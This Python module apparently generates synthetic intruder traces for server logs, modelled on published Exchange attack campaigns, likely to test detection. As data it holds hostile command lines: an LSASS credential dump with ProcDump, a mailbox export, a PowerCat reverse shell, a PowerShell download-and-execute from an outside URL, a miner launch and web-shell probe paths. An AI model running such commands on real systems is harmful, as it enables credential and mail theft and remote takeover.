"""What planted actors leave by which they are told apart: published marks, each once, in the logs of a server."""

from collections.abc import Callable, Iterator, Mapping

from postvakt.estate.deeds import Command, LeftFile, ShellRequest
from postvakt.estate.plans import Actor, ServerPlan
from postvakt.estate.stories import Step

SYSTEM = "C:\\Windows\\System32\\"
WORKER = f"{SYSTEM}inetsrv\\w3wp.exe"
SERVICES = f"{SYSTEM}services.exe"
POWERSHELL = f"{SYSTEM}WindowsPowerShell\\v1.0\\powershell.exe"
ORION = "C:\\Program Files (x86)\\SolarWinds\\Orion\\SolarWinds.BusinessLayerHost.exe"
OPERA = "C:\\Users\\Public\\Opera\\opera_browser.exe"
SNAP_IN = (
    "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo"
)

SHADOWPAD = "3d5d32a62f770608b6567ec5d18424c24c3f5798"
DUMPER = "af421b1f5a08499e130d24f448f6d79f7c76af2b"
OPERA_HASH = "02886f9daa13f7d9855855048c54f1d6b1231b0a"
MINER = "29d8dedcf19a8691b4a3839b805730dda9d0b87c"
"""SHA-1 that ESET published; the programs themselves are not here."""

LOOKED_FOR = ("/aspnet_client/supp0rt.aspx", "/aspnet_client/shell.aspx", "/owa/auth/one1.aspx")
ANTSWORD = "antSword/v2.1"

Row = tuple[str, float, str, str, str, str, str]
"""Name, minute, parent, image, command line, published hash, and the sentence."""

RUNS: Mapping[Step, tuple[Row, ...]] = {
    "as-hafnium": (
        ("procdump", 34, WORKER, "C:\\Windows\\Temp\\procdump64.exe",
         "procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass", "",
         "The intruder dumped LSASS by ProcDump."),
        ("snap-in", 41, WORKER, POWERSHELL,
         f"powershell.exe {SNAP_IN} -FilePath \\\\localhost\\c$\\ProgramData\\pst\\ceo.pst", "",
         "The intruder exported a mailbox by a script that loads the snap-in."),
        ("pack", 48, WORKER, "C:\\ProgramData\\7z.exe",
         "7z.exe a -t7z -r C:\\ProgramData\\it.zip C:\\Programdata\\pst", "",
         "The intruder packed the mail by 7-Zip."),
        ("powercat", 52, WORKER, POWERSHELL,
         "powershell.exe IEX(gc C:\\windows\\temp\\powercat.ps1); powercat -c 203.0.113.9 -p 443 -e cmd", "",
         "The intruder opened a shell by PowerCat."),
    ),
    "as-tonto": (
        ("shadowpad", 36, WORKER, "C:\\Windows\\Temp\\mscoree.exe", "mscoree.exe", SHADOWPAD,
         "The intruder started ShadowPad."),
        ("dumper", 44, WORKER, "C:\\Windows\\Temp\\dm.exe", "dm.exe", DUMPER,
         "The intruder started a dumper of LSASS."),
    ),
    "as-opera": (
        ("browser", 33, SERVICES, OPERA, OPERA, OPERA_HASH,
         "A service started the browser that loads a foreign library."),
    ),
    "as-dltminer": (
        ("fetch", 33, WORKER, POWERSHELL,
         "powershell.exe -c IEX(New-Object Net.WebClient).DownloadString('http://p.estonine.com/p')", "",
         "The intruder fetched a script."),
        ("miner", 39, POWERSHELL, "C:\\Windows\\Temp\\m6.exe",
         "m6.exe -o stratum+tcp://pool.corp.example:3333 --donate-level 1", MINER,
         "The intruder began to mine."),
    ),
    "as-sunburst": (
        ("shell", 12, ORION, f"{SYSTEM}cmd.exe", "cmd.exe /c whoami", "",
         "The foreign update of Orion started a shell."),
    ),
}  # fmt: skip


def _runs(step: Step) -> Callable[[ServerPlan, Actor], Iterator[Command]]:
    def commands(server: ServerPlan, actor: Actor) -> Iterator[Command]:
        for name, minute, parent, image, line, published, says in RUNS[step]:
            yield Command(
                actor=actor,
                step=step,
                name=name,
                minute=minute,
                says=says,
                image=image,
                line=line,
                parent=parent,
                published=published,
            )

    return commands


COMMANDS = {step: _runs(step) for step in RUNS}


def _opera(server: ServerPlan, actor: Actor) -> Iterator[LeftFile]:
    yield LeftFile(
        actor=actor,
        step="as-opera",
        name="program",
        minute=32,
        says="The intruder left a browser in a public profile.",
        path="C/Users/Public/Opera/opera_browser.exe",
        content=b"MZ" + server.random("opera").randbytes(512),
        image=WORKER,
    )


LEFT: Mapping[Step, Callable[[ServerPlan, Actor], Iterator[LeftFile]]] = {"as-opera": _opera}


def looked_for(actor: Actor) -> Iterator[ShellRequest]:
    """Yield the requests by which somebody looks for the shells of others; none is there."""
    for number, path in enumerate(LOOKED_FOR):
        yield ShellRequest(
            actor=actor,
            step="as-opportunist",
            name=f"look-{number + 1}",
            minute=3 + number,
            says="Somebody asked for a shell that others are known to leave, and it was not there.",
            path=path,
            agent=ANTSWORD,
            status=404,
        )
